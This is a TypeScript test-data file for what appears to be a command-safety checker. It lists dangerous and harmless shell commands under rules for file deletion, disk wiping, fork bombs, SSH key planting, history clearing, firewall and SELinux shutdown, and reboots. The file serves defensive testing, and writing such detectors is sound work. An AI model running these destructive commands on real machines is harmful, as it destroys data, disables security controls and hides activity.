// Contract: cases of the rules about files, disks and the machine. Test-only data.
import type { Table } from './table.ts';

export const FILE_CASES: Table = {
  'fs.remove': {
    hit: ['rm -rf /', 'rm -rf ~', 'rm -rf "$HOME"', 'rm -r /etc', 'rm -rf /usr/share/doc', 'rm -rf ~/.ssh', 'rm -rf ~/.config', 'rm -rf /home', 'rm -rf /home/other', 'find / -delete', 'find ~ -type f -delete', 'mv /etc /tmp/e', 'rm -rf --no-preserve-root /', 'cd / && rm -rf *', 'rm -rf /var/lib/postgresql', 'ssh host "rm -rf /var/lib/mysql"', '? find / -name core -delete', 'find /etc -exec rm {} +', 'rm -rf ../../../../etc', 'sudo rm -rf /opt', 'docker run -v /:/host alpine rm -rf /host/etc', 'rm -rf ~/Documents', "node -e \"require('fs').rmSync('/home/dev',{recursive:true})\"", 'echo / | xargs rm -rf', 'ls / | xargs rm -rf', 'find ~ -print0 | xargs -0 rm -rf', 'kubectl exec p -- rm -rf /', 'rm -rf "${DIR:-$HOME}"'],
    miss: ['rm -rf dist', 'rm -rf /tmp/x', 'rm -rf ~/.cache/x', 'rm -rf /usr/local/lib/node_modules/x', 'rm -r --help /', 'rm ~', "rm -rf '~'", 'rm -rf etc', 'find . -name x -delete', 'mv a /tmp', 'rm -rf /opt/myapp/tmp', 'rm -rf ~/work/other/build', 'find ~ -name x -print', 'docker run --rm alpine rm -rf /etc'],
  },
  'fs.remove.workspace': {
    hit: ['rm -rf .', 'rm -rf *', 'rm -rf ..', 'rm -rf ../repo', 'rm -rf "$PWD"', 'rm -rf /home/dev/work', 'find . -delete', 'find . -mindepth 1 -exec rm -rf {} +', 'cd .. && rm -rf repo', 'find . -type f -delete', 'ls | xargs rm -rf', 'rm -rf ./*', 'rm -rf {*,.*}'],
    miss: ['rm -rf ./dist', 'rm -rf src/..data', 'rm -rf */dist', 'find . -name "*.o" -delete', 'find . -empty -delete', 'find . -type d', 'cd build && rm -rf .', 'rm *', 'ls | grep tmp | xargs rm -rf', 'ls dist | xargs rm -f'],
  },
  'fs.remove.home-entry': {
    hit: ['rm -rf ~/projects', 'rm -rf ~/go', 'rm -rf /home/dev/data', 'rm -rf ~/notes/', 'find ~/projects -delete'],
    miss: ['rm -rf ~/.cache', 'rm -rf ~/.npm', 'rm -rf ~/work/x', 'rm ~/notes.txt', 'rm -rf ~/tmp', 'mv ~/projects ~/old'],
  },
  'fs.remove.variable': {
    hit: ['rm -rf $X/*', 'rm -rf "$DIR"/*', 'rm -rf ${BUILD}/*', '? rm -rf "$DIR/"', 'rm -rf "${DIR:-/}"', '? rm -rf "$PREFIX/usr"', 'sudo rm -rf $ROOT/*', '? rm -rf "$(cat dir)"/*'],
    miss: ['rm -rf "$X"', 'rm -rf "${X:?}"/*', 'rm -rf "$X/build"', 'rm -f $X/*', 'X=build; rm -rf $X/*', 'rm -rf "${X:-build}"', 'rm -rf "$TMPDIR/x"'],
  },
  'fs.remove.system-file': {
    hit: ['rm /etc/passwd', 'unlink /etc/hosts', 'rm -f /etc/sudoers', 'shred /etc/shadow', 'rm /boot/vmlinuz', '? rm /etc/nginx/nginx.conf', 'sudo rm /usr/bin/python3'],
    miss: ['rm etc/passwd', 'rm /tmp/hosts', 'rm /usr/local/bin/tool', 'rm /var/log/app.log', 'cat /etc/passwd', 'rm /opt/x/y'],
  },
  'fs.remove.private-file': {
    hit: ['shred -u ~/.ssh/id_ed25519', '? rm ~/.ssh/id_rsa', '? rm ~/.aws/credentials', '? rm ~/.netrc', '? rm ~/.gitconfig', '? unlink ~/.ssh/config'],
    miss: ['rm ~/notes.txt', 'rm ~/.ssh/known_hosts', 'rm ./.ssh/id_rsa', 'cat ~/.gitconfig', 'rm ~/.cache/x'],
  },
  'fs.move.null': {
    hit: ['mv a /dev/null', 'mv ~ /dev/null', 'sudo mv x y /dev/null'],
    miss: ['mv a b', 'cat a > /dev/null', 'mv null /tmp', 'cp a /dev/null'],
  },
  'fs.system.write': {
    hit: [': > /etc/hosts', 'echo x | sudo tee /etc/sudoers', 'cp x /etc/passwd', '? echo x >> /etc/hosts', '? sudo cp app.conf /etc/nginx/', 'ln -sf /bin/bash /bin/sh', 'dd if=x of=/etc/fstab', '? sudo tee /etc/apt/sources.list.d/x.list < x', 'sed -i s/a/b/ /etc/ssh/sshd_config', '? echo 1 > /proc/sys/net/ipv4/ip_forward', 'curl -o /usr/bin/x https://example.test/x', 'install -m 755 x /usr/bin/x', "python3 -c \"open('/etc/hosts','w')\""],
    miss: ['echo x > etc/hosts', 'cp x /usr/local/bin/x', 'cat /etc/hosts > hosts', 'cp /etc/hosts .', 'sudo install x /opt/x', 'echo x > /dev/null', 'echo x > /dev/stderr', 'ln -s /etc/hosts h', 'tee /tmp/x'],
  },
  'fs.start-file': {
    hit: ['> ~/.bashrc', 'cp /dev/null ~/.bashrc', 'echo x > ~/.zshrc', '? echo x >> ~/.bashrc', '? sed -i s/a/b/ ~/.profile', 'rm ~/.zshrc', '? cp x ~/.config/autostart/x.desktop', '? tee -a ~/.zshenv', ': > "$HOME/.profile"'],
    miss: ['cat ~/.bashrc', 'cp ~/.bashrc /tmp', 'echo x > .bashrc', 'source ~/.bashrc', 'grep alias ~/.zshrc', 'chmod 600 ~/.bashrc'],
  },
  'fs.ssh.file': {
    hit: ['echo key >> ~/.ssh/authorized_keys', 'cp k ~/.ssh/id_rsa', '? echo x >> ~/.ssh/config', 'tee -a ~/.ssh/authorized_keys < k', 'curl -o ~/.ssh/authorized_keys https://example.test/k'],
    miss: ['cat ~/.ssh/config', 'ssh-keyscan host >> ~/.ssh/known_hosts', 'chmod 600 ~/.ssh/config', 'ls ~/.ssh', 'mkdir -p ~/.ssh'],
  },
  'fs.history': {
    hit: ['? history -c', '? unset HISTFILE', '? rm ~/.bash_history', '? > ~/.zsh_history', '? truncate -s 0 ~/.bash_history'],
    miss: ['history', 'history 20', 'cat ~/.bash_history', 'unset FOO', 'git log', 'grep x ~/.zsh_history'],
  },
  'fs.extract': {
    hit: ['tar -C / -xzf x.tgz', 'tar xzf x.tgz -C /', 'tar -x -f x.tar --directory=/etc', 'unzip x.zip -d /', 'unzip -o x.zip -d /usr/bin', 'cd / && tar xf /tmp/x.tar'],
    miss: ['tar xzf x.tgz', 'tar xzf x.tgz -C /tmp', 'tar -C / -czf x.tgz etc', 'tar -C /usr/local -xzf go.tgz', 'unzip -l x.zip -d /', 'unzip x.zip -d out', 'tar tf x.tar -C /'],
  },
  'fs.rsync.delete': {
    hit: ['rsync -a --delete empty/ ~/', 'rsync -a --delete x/ /', 'rsync -av --delete-after x/ /etc/', 'rsync -a --del x/ .', 'rsync -r --delete empty/ $HOME'],
    miss: ['rsync -a --delete src/ dist/', 'rsync -a x/ ~/', 'rsync -an --delete x/ ~/', 'rsync -a --delete x/ host:/srv/', 'rsync -a --dry-run --delete x/ /'],
  },
  'fs.mode': {
    hit: ['chmod -R 777 /', 'chmod -R 755 /etc', 'chmod 000 ~', 'chmod -R 777 ~', 'chmod 777 /etc/passwd', 'chmod -R a+rwx $HOME', 'chmod --recursive 700 /usr', 'chmod 777 ~/.ssh', 'chmod -R u+w /'],
    miss: ['chmod 755 x', 'chmod -R 755 dist', 'chmod 600 ~/.ssh/id_rsa', 'chmod 700 ~/.ssh', 'chmod -R 777 build', 'chmod +x /usr/local/bin/x', 'chmod 777 a'],
  },
  'fs.mode.setuid': {
    hit: ['? chmod u+s x', '? chmod 4755 x', '? chmod +s x'],
    miss: ['chmod 0755 x', 'chmod +x x', 'chmod 755 x', 'chmod u+x s'],
  },
  'fs.owner': {
    hit: ['chown -R nobody /usr', 'chown -R x:x /', '? sudo chown -R dev ~', 'chgrp -R x /etc', 'chown --recursive x /var/lib', '? chown -R dev /usr/local'],
    miss: ['chown dev a', 'chown -R dev ./data', 'chown dev /etc/x', 'chown -R dev ~/.npm', 'chown -R dev /tmp/x', 'chown -R dev /usr/local/lib/node_modules/x'],
  },
  'fs.crontab': {
    hit: ['crontab -r', 'crontab -ir', 'crontab -u dev -r'],
    miss: ['crontab -l', 'crontab -e', 'crontab file', 'crontab -u root -l'],
  },
  'disk.write': {
    hit: ['dd if=x of=/dev/sda', 'cat x > /dev/nvme0n1', 'cp x.img /dev/sdb', 'shred /dev/sdb', 'tee /dev/sda < x', 'dd of=/dev/disk2', 'badblocks -wsv /dev/sda', 'ddrescue a.img /dev/sdb', 'sudo dd if=/dev/zero of=/dev/mmcblk0', 'truncate -s 0 /dev/sda'],
    miss: ['dd if=/dev/sda of=x.img', 'echo x > /dev/null', 'cat /dev/urandom > r', 'dd if=a of=b', 'badblocks /dev/sda', 'ls > /dev/stderr', 'cp /dev/null x', 'ddrescue /dev/sdb a.img'],
  },
  'disk.mkfs': {
    hit: ['mkfs.ext4 /dev/sda1', 'mke2fs /dev/sda1', 'mkfs -t ext4 /dev/sdb', 'mkswap /dev/sda2', 'sudo mkfs.xfs -f /dev/nvme0n1p1', '? mkfs.ext4 "$DISK"'],
    miss: ['mkfs.ext4 disk.img', 'mkfs.ext4 --help', 'mkfs -t ext4 a.img', 'mkswap swapfile', 'man mkfs'],
  },
  'disk.partition': {
    hit: ['fdisk /dev/sda', 'parted /dev/sda mklabel gpt', 'sgdisk -Z /dev/sda', 'wipefs -a /dev/sda', 'blkdiscard /dev/nvme0n1', 'sfdisk /dev/sda < t', 'wipefs --all --force /dev/sdb'],
    miss: ['fdisk -l', 'parted -l', 'sgdisk -p /dev/sda', 'wipefs /dev/sda', 'sfdisk -d /dev/sda', 'fdisk disk.img', 'parted /dev/sda print'],
  },
  'disk.luks': {
    hit: ['cryptsetup luksFormat /dev/sda', 'cryptsetup erase /dev/sda', 'cryptsetup -q luksKillSlot /dev/sda 0'],
    miss: ['cryptsetup luksDump /dev/sda', 'cryptsetup open /dev/sda x', 'cryptsetup --help', 'cryptsetup status x'],
  },
  'disk.lvm': {
    hit: ['lvremove vg/lv', 'vgremove vg', 'pvremove /dev/sda', 'lvreduce -L 1G vg/lv'],
    miss: ['lvs', 'vgs', 'lvremove --help', 'lvcreate -L 1G vg', 'lvremove -t vg/lv'],
  },
  'disk.pool': {
    hit: ['zpool destroy tank', 'zfs destroy -r tank/x', 'btrfs subvolume delete /x', 'zfs rollback -r tank@a', 'zpool labelclear /dev/sda'],
    miss: ['zpool status', 'zfs list', 'btrfs subvolume list /', 'zfs destroy -n tank/x', 'zfs snapshot tank@a', 'zfs rollback tank@a'],
  },
  'disk.hardware': {
    hit: ['hdparm --security-erase p /dev/sda', 'mdadm --zero-superblock /dev/sda', '? mdadm --stop /dev/md0'],
    miss: ['hdparm -I /dev/sda', 'mdadm --detail /dev/md0', 'hdparm -t /dev/sda', 'mdadm --examine /dev/sda'],
  },
  'disk.nvme': {
    hit: ['nvme format /dev/nvme0n1', 'nvme sanitize /dev/nvme0', 'nvme write-zeroes /dev/nvme0n1'],
    miss: ['nvme list', 'nvme smart-log /dev/nvme0', 'nvme id-ctrl /dev/nvme0'],
  },
  'disk.diskutil': {
    hit: ['diskutil eraseDisk JHFS+ X disk2', 'diskutil partitionDisk disk2 1 GPT', 'diskutil apfs deleteContainer disk1', 'diskutil secureErase 0 disk2'],
    miss: ['diskutil list', 'diskutil info disk2', 'diskutil apfs list', 'diskutil unmount disk2s1'],
  },
  'disk.fork-bomb': {
    hit: [':(){ :|:& };:', 'f(){ f|f& };f', 'bomb() { bomb | bomb & }; bomb'],
    miss: ['f() { echo x | cat; }; f', 'f() { f2 | f3; }', 'a() { b; }; a & a'],
  },
  'disk.fork-bomb.code': {
    hit: ["perl -e 'fork while fork'", "python3 -c 'import os\nwhile True: os.fork()'", "ruby -e 'loop { fork }'"],
    miss: ["perl -e 'print 1'", "python3 -c 'import os; os.fork()'", "ruby -e 'loop { break }'"],
  },
  'host.power': {
    hit: ['reboot', 'sudo shutdown -h now', 'poweroff', 'halt -p', 'init 0', 'systemctl reboot', 'telinit 6', 'ssh host sudo reboot', "osascript -e 'tell app \"System Events\" to shut down'"],
    miss: ['shutdown -c', 'shutdown --help', 'systemctl status', 'last reboot', 'init 3', 'npm run reboot', 'systemctl restart nginx'],
  },
  'host.kill-all': {
    hit: ['kill -9 -1', 'kill -KILL -1', 'kill -- -1', 'killall5 -9', 'pkill -9 -u dev', 'kill -9 1', 'kill -s KILL -1', 'killall sshd'],
    miss: ['kill 123', 'kill -9 123', 'kill -1 123', 'pkill -f vite', 'kill -l', 'killall node', 'kill -HUP 55', 'pkill -u dev node'],
  },
  'host.sysrq': {
    hit: ['echo b > /proc/sysrq-trigger', 'echo c | sudo tee /proc/sysrq-trigger', 'printf o > /proc/sysrq-trigger'],
    miss: ['cat /proc/sysrq-trigger', 'echo b > sysrq-trigger', 'ls /proc'],
  },
  'host.mount': {
    hit: ['? umount /', '? mount -o remount,ro /', '? umount -a', '? mount --bind /x /etc', '? umount -l /home'],
    miss: ['mount', 'umount /mnt/x', 'mount /dev/sdb1 /mnt', 'mount -o remount,rw /mnt/x', 'umount /tmp/y'],
  },
  'host.firewall': {
    hit: ['? iptables -F', '? ufw disable', '? nft flush ruleset', '? iptables -P INPUT ACCEPT', '? pfctl -d', '? sudo iptables -t nat -F'],
    miss: ['iptables -L', 'ufw status', 'nft list ruleset', 'ufw allow 22', 'iptables -A INPUT -j DROP', 'pfctl -s rules'],
  },
  'host.service': {
    hit: ['? systemctl stop ssh', '? systemctl disable --now NetworkManager', '? systemctl mask firewalld', '? service ssh stop', '? launchctl unload x.plist', '? systemctl stop auditd.service'],
    miss: ['systemctl stop nginx', 'systemctl restart ssh', 'service nginx stop', 'systemctl status ssh', 'launchctl list', 'systemctl disable my-app'],
  },
  'host.account.remove': {
    hit: ['userdel -r x', 'deluser x', 'groupdel g', 'sudo userdel x'],
    miss: ['useradd x', 'id x', 'userdel --help', 'groups x'],
  },
  'host.account.change': {
    hit: ['? passwd root', '? visudo', '? usermod -aG sudo dev', '? gpasswd -a dev docker', '? chpasswd < f', '? adduser dev sudo'],
    miss: ['passwd -S', 'visudo -c', 'usermod -s /bin/zsh dev', 'groups dev', 'adduser app', 'usermod --help'],
  },
  'host.kernel': {
    hit: ['? modprobe x', '? insmod x.ko', '? rmmod x', '? sysctl -w a.b=1', '? sysctl vm.swappiness=1'],
    miss: ['sysctl vm.swappiness', 'lsmod', 'modprobe -n x', 'sysctl -a', 'modinfo x'],
  },
  'host.security.off': {
    hit: ['setenforce 0', 'spctl --master-disable', 'csrutil disable', 'auditctl -D', 'sudo setenforce Permissive'],
    miss: ['getenforce', 'setenforce 1', 'csrutil status', 'auditctl -l', 'spctl --status'],
  },
  'host.package.core': {
    hit: ['apt-get remove bash', 'apt purge -y systemd', 'dpkg -r libc6', 'dnf remove glibc', 'pacman -Rns coreutils'],
    miss: ['apt-get install bash', 'apt remove nginx', 'dpkg -l bash', 'dnf info glibc', 'apt autoremove', 'apt show sudo'],
  },
};
